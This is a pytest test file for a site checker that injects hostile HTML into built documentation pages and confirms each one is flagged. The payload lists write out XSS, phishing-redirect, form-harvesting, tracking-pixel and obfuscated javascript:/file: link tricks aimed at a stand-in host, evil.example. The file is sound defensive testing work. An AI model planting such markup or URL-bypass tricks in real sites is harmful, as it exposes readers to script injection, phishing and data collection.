"""Raw HTML a contribution slips into a page (red-team rows 8, 37 and repro R4): each payload is one finding of
active-content, foreign-resource or bad-link, at its line; docs/site.yml allowed-markup silences
exactly what it declares; the real site has none."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from conftest import FIRST, ROOT, build_site, copy_project
from explainer import cli as check_site
from explainer.checks_markup import unsafe_url
from explainer.published import ContractError, read_contract

S = FIRST.slug
ARTICLE = f"{S}/article/index.html"
MARKUP_CHECKS = "active-content,foreign-resource,bad-link,meta-refresh,internal-link,fragment"
EVIL = "https://evil.example"


@pytest.fixture
def run(site, capsys):
    """Runs the markup and link checks: exit code and the finding lines, each without the site folder's path."""
    def checker(folder: Path, *options: str, config: Path = ROOT / "mkdocs.yml") -> tuple[int, list[str]]:
        code = check_site.main([str(folder), "--config", str(config), "--site-url", site.url,
                                "--only", MARKUP_CHECKS, *options])
        captured = capsys.readouterr()
        assert captured.err == ""
        return code, [line.removeprefix(f"{folder.resolve()}/") for line in captured.out.splitlines()[:-1]]
    return checker


def inject(site: Path, page: str, markup: str, before: str = "</article>") -> int:
    """Put markup on a line of its own before the first `before` of a built page; the line it is on."""
    path = site / page
    text = path.read_text(encoding="utf-8")
    at = text.index(before)
    path.write_text(f"{text[:at]}\n{markup}\n{text[at:]}", encoding="utf-8")
    return text.count("\n", 0, at) + 2


# --- The real site --------------------------------------------------------------------------------------------

def test_the_real_site_has_no_markup_findings(site, run):
    assert run(site.dir) == (0, [])


# --- Repro R4 and more: each payload in the content is one finding ----------------------------------------------

HINT = "; docs/site.yml allowed-markup can allow it"
PAYLOADS = [
    # (markup, check, message)
    ("<script>alert('pr-script')</script>", "active-content",
     f"<script>alert('pr-script') in the content runs a script{HINT}"),
    ('<meta http-equiv="refresh" content="5;url=https://evil.example/phish">', "active-content",
     f"<meta http-equiv=\"refresh\"> in the content sends readers to '5;url={EVIL}/phish'{HINT}"),
    ('<iframe src="https://evil.example/frame" width="0" height="0"></iframe>', "active-content",
     f'<iframe src="{EVIL}/frame"> in the content embeds another document, from {EVIL}{HINT}'),
    ('<img src="https://evil.example/pixel.gif" alt="">', "foreign-resource",
     f'<img src="{EVIL}/pixel.gif"> in the content loads from {EVIL}{HINT}'),
    ('<form action="https://evil.example/collect" method="post"></form>', "active-content",
     f'<form action="{EVIL}/collect"> in the content sends what readers type, to {EVIL}{HINT}'),
    ("<div onclick=\"alert('pr-onclick')\"></div>", "active-content",
     f"<div onclick=\"alert('pr-onclick')\"> in the content: an event handler runs script{HINT}"),
    # the rest of the list
    ('<script src="https://evil.example/x.js"></script>', "active-content",
     f'<script src="{EVIL}/x.js"> in the content runs a script, from {EVIL}{HINT}'),
    ('<form></form>', "active-content", f"<form> in the content sends what readers type{HINT}"),
    ('<object data="https://evil.example/x.swf"></object>', "active-content",
     f'<object data="{EVIL}/x.swf"> in the content embeds another document, from {EVIL}{HINT}'),
    ('<embed src="../../assets/images/favicon.svg">', "active-content",
     f'<embed src="../../assets/images/favicon.svg"> in the content embeds another document{HINT}'),
    ('<iframe src="javascript:alert(1)"></iframe>', "active-content",
     f'<iframe src="javascript:alert(1)"> in the content embeds another document: javascript: link{HINT}'),
    ('<base href="https://evil.example/">', "active-content",
     f'<base href="{EVIL}/"> changes where every link leads, from {EVIL}{HINT}'),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "active-content",
     f'<link href="{EVIL}/x.css"> in the content loads or links a resource, from {EVIL}{HINT}'),
    ('<svg onload="alert(1)" onmouseover="alert(2)"></svg>', "active-content",
     f'<svg onload="alert(1)"> (and onmouseover) in the content: an event handler runs script{HINT}'),
    ('<img srcset="../../assets/images/favicon.svg 1x, https://evil.example/b.png 2x" alt="">', "foreign-resource",
     f'<img srcset="{EVIL}/b.png"> in the content loads from {EVIL}{HINT}'),
    ('<video poster="https://evil.example/p.jpg"></video>', "foreign-resource",
     f'<video poster="{EVIL}/p.jpg"> in the content loads from {EVIL}{HINT}'),
    ('<a href="../faq/" ping="https://evil.example/ping">x</a>', "foreign-resource",
     f'<a ping="{EVIL}/ping"> in the content loads from {EVIL}{HINT}'),
    ('<svg><image href="https://evil.example/i.png"></image></svg>', "foreign-resource",
     f'<image href="{EVIL}/i.png"> in the content loads from {EVIL}{HINT}'),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "foreign-resource",
     f'<a xlink:href="javascript:alert(1)">: javascript: link{HINT}'),
    ('<img src="file:///etc/passwd" alt="">', "foreign-resource", f'<img src="file:///etc/passwd">: file: link{HINT}'),
    ('<img src="//evil.example/p.gif" alt="">', "foreign-resource",
     '<img src="//evil.example/p.gif">: a protocol-relative link to evil.example (write https://)'),
]


@pytest.mark.parametrize("markup, check, message", PAYLOADS, ids=[p[0][:40] for p in PAYLOADS])
def test_each_payload_in_the_content_is_one_finding(copy, run, markup, check, message):
    line = inject(copy, ARTICLE, markup)
    assert run(copy) == (1, [f"{ARTICLE}:{line}: {check}: {message}"])


def test_a_meta_refresh_in_the_head_is_found_on_a_page_that_is_no_redirect_page(copy, run):
    """meta-refresh's, as every refresh in a head is (its target is another site's, so it is not missing)."""
    line = inject(copy, ARTICLE, '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta ")
    assert run(copy) == (1, [f'{ARTICLE}:{line}: meta-refresh: a meta refresh to "{EVIL}/" on a page that is no '
                             "redirect page of docs/site.yml moved"])


def test_a_script_that_breaks_out_of_the_article_is_found(copy, run):
    """Markdown's raw HTML can close Material's article and open another (repro R4 variant): what it puts between
    them, in the main area, is still the content's."""
    line = inject(copy, ARTICLE, "</article></div><script>alert('out')</script>"
                                 '<div class="md-content"><article class="md-content__inner md-typeset">')
    assert run(copy) == (1, [f"{ARTICLE}:{line}: active-content: <script>alert('out') in the content runs a script"
                             f"{HINT}"])


def test_what_breaks_out_of_the_main_area_is_found_and_the_themes_own_script_is_not(copy, run):
    """Markup that closes the article, its column and Material's <main> lands beside them, before the footer: it is
    still the content's. Material's own script after the article (its last element before the footer) is not."""
    line = inject(copy, ARTICLE, "</article></div></div></main><script>alert('out')</script>"
                                 '<iframe src="https://evil.example/f"></iframe><div>')
    assert run(copy) == (1, [
        f"{ARTICLE}:{line}: active-content: <iframe src=\"{EVIL}/f\"> in the content embeds another document, "
        f"from {EVIL}{HINT}",
        f"{ARTICLE}:{line}: active-content: <script>alert('out') in the content runs a script{HINT}"])


def test_a_page_the_theme_did_not_make_is_all_content(copy, run):
    """A raw .html file in docs/ is copied as it is: its head and body are the contribution's (a redirect page of
    docs/site.yml moved, which the build writes with its own script, is not one: the real site has no finding)."""
    (copy / "raw.html").write_text('<!doctype html>\n<html><head><script src="https://evil.example/x.js"></script>'
                                   "</head>\n<body><script>alert(1)</script></body></html>\n", encoding="utf-8")
    code, lines = run(copy, "--only", "active-content")
    assert (code, lines) == (1, [
        f'raw.html:2: active-content: <script src="{EVIL}/x.js"> in the content runs a script, from {EVIL}{HINT}',
        f"raw.html:3: active-content: <script>alert(1) in the content runs a script{HINT}"])


@pytest.mark.parametrize("markup, says", [
    ("<style>.md-content{display:none!important}</style>", "a <style> element in the content"),
    ('<p style="position:fixed;inset:0">x</p>', 'an inline style "position:fixed;inset:0"'),
])
def test_styles_in_the_content_are_shown_texts_alone(copy, run, markup, says):
    """A style can hide the text the checker reads: shown-text reports it (never allowed), no markup check again."""
    line = inject(copy, ARTICLE, markup)
    code, lines = run(copy, "--only", "shown-text")
    assert code == 1 and len(lines) == 1, lines
    assert f"shown-text: {says}" in lines[0] and (lines[0].startswith(f"{ARTICLE}:{line}: ")
                                                   or lines[0].endswith(f"{ARTICLE}:{line})"))


# --- Row 37: links a browser reads as a script, a file or another host ------------------------------------------

UNSAFE = [
    # (href as written in HTML, what bad-link says)
    ("file:///etc/passwd", "file: link"),
    ("FILE:///C:/Windows/win.ini", "file: link"),
    ("data:text/html,%3Cscript%3Ealert(1)%3C/script%3E", "data: link"),
    ("vbscript:msgbox(1)", "vbscript: link"),
    ("javascript:alert(1)", "javascript: link"),
    ("java&#x09;script:alert(1)", "javascript: link"),
    ("&#x01; JaVaScRiPt:alert(1)", "javascript: link"),
    ("java&#x0A;script:alert(1)", "javascript: link"),
    ("//evil.example/x", "a protocol-relative link to evil.example (write https://)"),
    ("\\\\evil\\share", "backslashes, which browsers read as '//': a link to the host evil"),
    ("/\\evil.example/x", "backslashes, which browsers read as '//': a link to the host evil.example"),
    ("https:evil.example", "'https:' without '//' (a host or a path, depending on the page's own scheme)"),
    ("http:/evil.example", "'http:' without '//' (a host or a path, depending on the page's own scheme)"),
    ("http://127.0.0.1:8000@evil.example/", "a user name before '@': the link leads to evil.example"),
    ("https:///evil.example/", "3 slashes, which browsers read as '//': a link to the host evil.example"),
    ("///evil.example/", "3 slashes, which browsers read as '//': a link to the host evil.example"),
]


@pytest.mark.parametrize("href, says", UNSAFE, ids=[u[0] for u in UNSAFE])
def test_each_unsafe_link_is_a_bad_link_not_a_missing_page(copy, run, href, says):
    line = inject(copy, ARTICLE, f'<p><a href="{href}">x</a></p>')
    code, lines = run(copy)
    assert code == 1 and len(lines) == 1, lines
    assert lines[0].startswith(f"{ARTICLE}:{line}: bad-link: <a href=") and lines[0].endswith(f'">: {says}')


@pytest.mark.parametrize("url", [u[0].replace("&#x09;", "\t").replace("&#x0A;", "\n").replace("&#x01;", "\x01")
                                 for u in UNSAFE])
def test_the_classifier_reads_a_url_as_a_browser_does(url):
    assert unsafe_url(url) is not None


@pytest.mark.parametrize("url", ["https://example.com/a", "HTTPS://Example.com/", "http://example.com:8080/x",
                                 "../faq/#p-exodus", "/explainer/assets/x.png", "#top", "mailto:a@b.fi",
                                 "tel:+358 9 123", "faq/", "?q=1", "https://example.com/a@b",
                                 "https://example.com\\a"])  # a backslash after the host is the path's
def test_ordinary_urls_are_not_unsafe(url):
    assert unsafe_url(url) is None


def test_a_theme_resource_with_a_file_address_is_found_anywhere_on_the_page(copy, run):
    line = inject(copy, ARTICLE, '<script src="file:///etc/passwd"></script>', "</body>")
    assert run(copy) == (1, [f'{ARTICLE}:{line}: foreign-resource: <script src="file:///etc/passwd">: file: link'])


# --- docs/site.yml allowed-markup ---------------------------------------------------------------------------------

def _declare(tmp_path: Path, entries: list[dict]) -> Path:
    """A copy of the project whose docs/site.yml allows these entries; its mkdocs.yml."""
    project = copy_project(tmp_path / "project")
    site_yml = project / "docs" / "site.yml"
    text = site_yml.read_text(encoding="utf-8").replace("allowed-markup: []\n", "")
    site_yml.write_text(text + yaml.safe_dump({"allowed-markup": entries}), encoding="utf-8")
    return project / "mkdocs.yml"


def test_a_declaration_silences_exactly_what_it_names(copy, run, tmp_path):
    youtube = "https://www.youtube-nocookie.com"
    config = _declare(tmp_path, [
        {"page": f"{S}/article", "element": "iframe", "origin": youtube},
        {"page": f"{S}/article", "element": "div", "attribute": "onclick"},
        {"page": f"{S}/article", "element": "a", "origin": "javascript:"},
        {"page": f"{S}/faq", "element": "img", "origin": EVIL},  # another page's
    ])
    markup = {
        "allowed iframe": f'<iframe src="{youtube}/embed/x"></iframe>',
        "iframe from elsewhere": f'<iframe src="{EVIL}/embed/x"></iframe>',
        "allowed handler": '<div onclick="go()">x</div>',
        "handler on a p": '<p onclick="go()">x</p>',
        "another handler": '<div onmouseover="go()">x</div>',
        "allowed link": '<p><a href="javascript:void(0)">x</a></p>',
        "disguised link": '<p><a href="//evil.example/">x</a></p>',
        "img allowed elsewhere": f'<img src="{EVIL}/p.gif" alt="">',
    }
    lines = {name: inject(copy, ARTICLE, html) for name, html in markup.items()}
    code, found = run(copy, config=config)
    assert code == 1
    assert [(int(line.split(":")[1]), line.split(": ")[1]) for line in found] == sorted([
        (lines["iframe from elsewhere"], "active-content"), (lines["handler on a p"], "active-content"),
        (lines["another handler"], "active-content"),
        (lines["disguised link"], "bad-link"), (lines["img allowed elsewhere"], "foreign-resource")])
    assert found[0] == (f'{ARTICLE}:{lines["iframe from elsewhere"]}: active-content: <iframe src="{EVIL}/embed/x"> '
                        f"in the content embeds another document, from {EVIL}{HINT}")


def test_the_english_page_is_allowed_too(copy, run, tmp_path):
    """A declaration names a page, not a language's file."""
    config = _declare(tmp_path, [{"page": f"{S}/article", "element": "script"}])
    inject(copy, ARTICLE, "<script>1</script>")
    inject(copy, f"en/{ARTICLE}", "<script>1</script>")
    assert run(copy, config=config) == (0, [])


@pytest.mark.parametrize("entries, says", [
    ({"page": f"{S}/article"}, "'allowed-markup' entry 1 must be {page, element}"),
    ([{"page": f"{S}/article", "element": "IFRAME"}], "'allowed-markup' entry 1 must be {page, element}"),
    ([{"page": f"{S}/article", "element": "iframe", "origin": "https://x.example/path"}], "entry 1 must be"),
    ([{"page": f"{S}/article", "element": "iframe", "orign": "https://x.example"}], "entry 1 must be"),
    ([{"page": f"{S}/article", "element": "p", "attribute": "style"}], "entry 1 must be"),
    ([{"page": f"{S}/article", "element": "a"}, {"page": "nowhere", "element": "a"}],
     "'allowed-markup' entry 2 names a page that does not exist: nowhere"),
])
def test_a_malformed_declaration_is_one_contract_error(tmp_path, entries, says):
    config = _declare(tmp_path, entries)
    with pytest.raises(ContractError) as error:
        read_contract(config.parent / "docs")
    assert says in str(error.value) and "\n" not in str(error.value)


# --- One process or several -------------------------------------------------------------------------------------

def test_one_process_or_several_find_the_same(copy, run):
    """The pages are shared out among processes (an explainer's pages in both languages stay together): with two,
    the people page is the first's and the explainer's pages and the home pages are the second's."""
    inject(copy, ARTICLE, "<script>alert(1)</script>")
    inject(copy, f"en/{S}/faq/index.html", '<img src="https://evil.example/p.gif" alt="">')
    inject(copy, "people/index.html", '<p onclick="go()"><a href="vbscript:x">x</a></p>')
    inject(copy, "en/index.html", '<iframe src="https://evil.example/"></iframe>')
    inject(copy, f"en/{S}/article/index.html", '<meta http-equiv="refresh" content="0;url=../faq/">', "<meta ")
    inject(copy, f"{S}/source/index.html", "</article></div></div></main><script>alert(1)</script>")
    one = run(copy, "--jobs", "1")
    assert one[0] == 1 and len(one[1]) == 7, one
    assert run(copy, "--jobs", "2") == one


# --- Repro R4 as a pull request: the payloads in the Markdown, built ----------------------------------------------

@pytest.mark.build
def test_a_pull_requests_markup_is_found_at_its_markdown_line(site, run, tmp_path):
    project = copy_project(tmp_path / "project")
    article = project / "docs" / S / "article.md"
    payloads = [markup for markup, _, _ in PAYLOADS[:6]]
    text = article.read_text(encoding="utf-8")
    anchor = "{ #p-exodus }\n"
    article.write_text(text.replace(anchor, anchor + "".join(f"\n{p}\n" for p in payloads), 1), encoding="utf-8")
    first = text[:text.index(anchor)].count("\n") + 3  # the line after the anchor's, then a blank line
    built = tmp_path / "built"
    build_site(built, site.url, project / "mkdocs.yml", strict=False)  # strict: the policy names the script
    code, lines = run(built, config=project / "mkdocs.yml")
    assert code == 1
    assert [line.split(" (built: ")[0] for line in lines] == [
        f"{article.resolve()}:{first + 2 * number}: {check}: {message}"
        for number, (_, check, message) in enumerate(PAYLOADS[:6])]
    assert all(f" (built: {built.resolve()}/{ARTICLE}:" in line for line in lines)
